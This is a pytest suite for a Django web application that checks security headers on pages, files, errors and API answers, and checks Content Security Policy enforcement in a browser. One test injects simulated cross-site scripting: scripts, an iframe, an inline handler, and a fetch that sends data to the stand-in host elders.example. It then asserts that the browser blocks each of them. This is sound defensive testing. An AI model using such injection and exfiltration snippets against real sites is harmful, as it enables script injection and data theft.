"""The headers that protect a reader stand on every answer, whatever it is: pages, errors, files."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from django.conf import settings
from django.http import HttpRequest, HttpResponse
from django.test import Client
from playwright.sync_api import Browser
from pytest_django import Settings

from dwarsverband.foundation.access import middleware
from tests.answers import Response, missing_headers
from tests.cast import Cast
from tests.live import Live
from tests.machines import ask, token
from tests.places import every_place, secrets_of, things_of

LARGE = b"x" * (settings.FILE_UPLOAD_MAX_MEMORY_SIZE + 1)


@pytest.mark.regression("some errors were answered without the headers that protect a reader")
def test_whatever_is_sent_is_answered_with_them(cast: Cast, settings: Settings) -> None:
    """That whatever is read is answered with them too, is looked at where everybody reads everything."""
    settings.IS_SECURE = True
    client, things, seen = cast.client("noor"), things_of(cast.waterdal), set[int]()
    client.raise_request_exception = False
    things |= secrets_of(cast.waterdal, things)
    wrong: list[str] = []
    for place in every_place():
        answered = client.post(place.at("waterdal", things))
        seen.add(answered.status_code)
        wrong += missing_headers(answered, place.name)
        if place.name == "account_logout":
            client = cast.client("noor")
            client.raise_request_exception = False
    assert not wrong, "\n".join(wrong)
    assert seen >= {200, 302, 400, 404, 405}


def test_a_file_a_style_and_what_is_not_there_answer_with_them(cast: Cast) -> None:
    noor, things, wrong = cast.client("noor"), things_of(cast.waterdal), list[str]()
    files = {
        place.name: noor.post(place.at("waterdal", things), {"kind": "json"})
        for place in every_place()
        if place.is_inside and "export" in place.name and not place.is_for_machines
    }
    assert {one.status_code for one in files.values()} == {200}
    assert all("attachment" in one["Content-Disposition"] for one in files.values())
    own = Path("dwarsverband/foundation/ui/static")
    script = next(path for path in sorted(own.rglob("*.js")))
    found = noor.get(f"/static/{script.relative_to(own)}")
    for close in found._resource_closers:  # type: ignore[attr-defined]  # closing the answer would close the database too
        close()
    assert found.status_code == 200
    for told, answered in {
        **files,
        "a script": found,
        "no script": noor.get("/static/niets.js"),
        "nowhere": noor.get("/niets/niets"),
        "nowhere for machines": noor.get("/api/niets"),
    }.items():
        wrong += missing_headers(answered, told)
    assert not wrong, "\n".join(wrong)


def _broken(request: HttpRequest) -> HttpResponse:
    raise ZeroDivisionError


ERRORS: dict[str, tuple[int, Callable[[Client, str], Response]]] = {
    "a host that is not ours": (400, lambda noor, _s: noor.get("/", headers={"Host": "elders.example"})),
    "no number of bytes": (400, lambda noor, _s: noor.generic("POST", "/inloggen", headers={"Content-Length": "x"})),
    "a form from elsewhere": (403, lambda _n, _s: Client(enforce_csrf_checks=True).post("/inloggen", {"login": "x"})),
    "another method": (405, lambda noor, _s: noor.get("/taal")),
    "too large a form": (413, lambda noor, _s: noor.generic("POST", "/inloggen", LARGE)),
    "too large a body": (413, lambda _n, secret: ask(secret, "/api/v1/waterdal/domains", LARGE.decode())),
    "no token": (401, lambda _n, _s: Client().get("/api/v1/waterdal/people")),
    "another type": (400, lambda _n, secret: ask(secret, "/api/v1/waterdal/domains", [])),
}  # fmt: skip


@pytest.mark.parametrize("error", ERRORS)
def test_an_error_answers_with_them(cast: Cast, error: str) -> None:
    status, ask_once = ERRORS[error]
    answered = ask_once(cast.client("noor"), token(cast.noor).secret)
    assert answered.status_code == status
    assert not missing_headers(answered, error)


def test_a_conflict_answers_with_them(cast: Cast) -> None:
    typed = {"name": "Noor Bakker", "language": "nl", "version": 99}
    answered = cast.client("noor").post("/waterdal/account/wijzigen", typed)
    assert answered.status_code == 409
    assert not missing_headers(answered, "conflict")
    told = ask(
        token(cast.noor).secret,
        "/api/v1/waterdal/account",
        {"name": "Noor", "language": "nl"},
        method="PUT",
        headers={"If-Match": "99"},
    )
    assert told.status_code == 412
    assert not missing_headers(told, "conflict for machines")


def test_too_often_answers_with_them(cast: Cast, settings: Settings) -> None:
    settings.API_LIMIT = 0
    answered = ask(token(cast.noor).secret, "/api/v1/waterdal/people")
    assert answered.status_code == 429
    assert not missing_headers(answered, "too often")


@pytest.mark.parametrize("address", ["/gezond", "/api/v1/openapi.json"])
def test_what_breaks_answers_with_them(
    cast: Cast, monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    broken = lambda _self, request, *_more: _broken(request)  # noqa: E731 (a method, for this test)
    monkeypatch.setattr(middleware.AccessMiddleware, "process_view", broken)
    answered = Client(raise_request_exception=False).get(address)
    assert answered.status_code == 500
    assert not missing_headers(answered, address)
    if address.startswith("/api/"):
        assert json.loads(answered.content)["status"] == 500


INJECTED = """async () => {
    const refused = [];
    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    const put = (name, values) =>
        document.body.appendChild(Object.assign(document.createElement(name), values));
    window.ran = [];
    put("script", {textContent: "window.ran.push('inline')"});
    put("script", {src: "https://elders.example/a.js"});
    put("img", {src: "https://elders.example/a.png"});
    put("iframe", {src: "https://elders.example/"});
    put("div", {innerHTML: "<b style='color: red' onclick='window.ran.push(1)'>x</b>"});
    document.body.lastChild.firstChild.click();
    const told = await fetch("https://elders.example/?names").then(() => "sent", () => "refused");
    await new Promise((done) => setTimeout(done, 200));
    return {ran: window.ran, told, refused: [...new Set(refused)].sort()};
}"""


def test_a_browser_runs_nothing_that_was_put_in_a_page_and_asks_nothing_elsewhere(
    live: Live, browser: Browser
) -> None:
    page = browser.new_context(base_url=live.address).new_page()
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: asked.append(f"{request.failure} {request.url}"))
    page.goto("/inloggen")
    found = page.evaluate(INJECTED)
    page.context.close()
    assert found["ran"] == []
    assert found["told"] == "refused"
    assert {
        "script-src-elem",
        "img-src",
        "connect-src",
        "style-src-attr",
        "script-src-attr",
    } <= set(found["refused"])
    assert not [one for one in asked if not one.startswith((live.address, "csp "))]
